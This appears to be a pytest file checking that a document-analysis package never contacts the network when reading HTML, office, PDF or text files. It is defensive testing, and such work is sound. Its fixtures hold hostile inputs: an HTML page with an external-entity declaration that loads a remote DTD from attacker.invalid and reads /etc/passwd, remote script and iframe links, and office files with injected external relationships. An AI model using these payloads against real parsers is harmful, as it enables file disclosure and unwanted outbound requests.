"""A document never makes the package reach the network, whatever it points at."""

import socket
import zipfile

import pytest
from test_random_bytes import SMALL

import convert
from msanalysis.errors import MsanalysisError
from msanalysis.extraction import extract_document
from msanalysis.reading import read_document

REMOTE = "https://attacker.invalid/x"
PAGE = f"""<!DOCTYPE html [<!ENTITY % remote SYSTEM "{REMOTE}.dtd"> %remote;
<!ENTITY inside SYSTEM "file:///etc/passwd">]>
<html><head><base href="{REMOTE}"><link rel="stylesheet" href="{REMOTE}.css">
<meta http-equiv="refresh" content="0; url={REMOTE}"><script src="{REMOTE}.js"></script></head>
<body><img src="{REMOTE}.png"><iframe src="{REMOTE}"></iframe><p>民生实事&inside;</p>
<table><tr><td>序号</td><td>项目</td></tr><tr><td>1</td><td>改造小区3个</td></tr></table></body></html>"""


@pytest.fixture
def no_network(monkeypatch):
    """Fail where anything asks for a connection or a name."""
    asked = []

    def refuse(*arguments, **_options):
        asked.append(arguments[1:] or arguments)
        raise OSError("the network is blocked in this test")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    for name in ("getaddrinfo", "gethostbyname", "create_connection"):
        monkeypatch.setattr(socket, name, refuse)
    return asked


def with_remote_parts(source, target):
    """Copy an office file, with every external relation and entity that such a file may have."""
    relation = (
        '<Relationship Id="rX" TargetMode="External" Target="{0}" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/{1}"/></Relationships>'
    )
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name.endswith(".rels"):
                for kind in ("attachedTemplate", "image", "externalLink"):
                    more = relation.format(REMOTE, kind).encode()
                    content = content.replace(
                        b"</Relationships>", more.replace(b"rX", kind.encode())
                    )
            new.writestr(name, content)
    return target


def assert_nothing_asked(path, asked):
    for use in (read_document, lambda file: extract_document(file, doc_id="yubei-2021-plan")):
        try:
            use(path)
        except MsanalysisError as error:
            refusal = str(error)
            assert refusal
    assert asked == []


def test_web_page_that_points_outside_reaches_nothing(tmp_path, no_network):
    path = tmp_path / "page.html"
    path.write_text(PAGE, "utf-8")
    assert_nothing_asked(path, no_network)
    words = " ".join(str(block) for block in read_document(path).blocks)
    assert "root:" not in words


@pytest.mark.parametrize("name", ["docx", "xlsx"])
def test_office_file_with_remote_parts_reaches_nothing(name, tmp_path, no_network):
    plain = convert.write_blocks(SMALL, tmp_path / f"plain.{name}")
    assert_nothing_asked(with_remote_parts(plain, tmp_path / f"remote.{name}"), no_network)


def test_pdf_and_text_reach_nothing(tmp_path, no_network):
    assert_nothing_asked(convert.write_blocks(SMALL, tmp_path / "plain.pdf"), no_network)
    path = tmp_path / "plain.txt"
    path.write_text(f"1. 见{REMOTE}\n2. ![x]({REMOTE}.png)\n", "utf-8")
    assert_nothing_asked(path, no_network)


def test_block_would_show_a_request(no_network):
    with pytest.raises(OSError, match="blocked"):
        socket.create_connection(("attacker.invalid", 80))
    assert no_network
